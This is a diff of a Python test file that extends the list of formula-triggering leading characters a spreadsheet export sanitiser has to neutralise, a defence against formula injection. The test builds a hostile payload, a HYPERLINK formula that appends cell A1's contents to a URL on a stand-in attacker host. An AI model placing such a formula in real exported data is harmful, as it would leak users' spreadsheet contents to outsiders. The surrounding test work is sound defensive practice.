@@ -61,7 +61,7 @@ def test_a_line_of_json_has_the_same_names_with_changes_apart() -> None:
     assert second["subject"] == "a\nb"
 
 
-@pytest.mark.parametrize("start", ["=", "\t", "\r", "\n", "＋", "－", "＠"])
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
 def test_s241_a_cell_that_a_spreadsheet_would_compute_is_text(start: str) -> None:
     formula = f'{start}HYPERLINK("https://evil.test?"&A1)'
     hostile = replace(
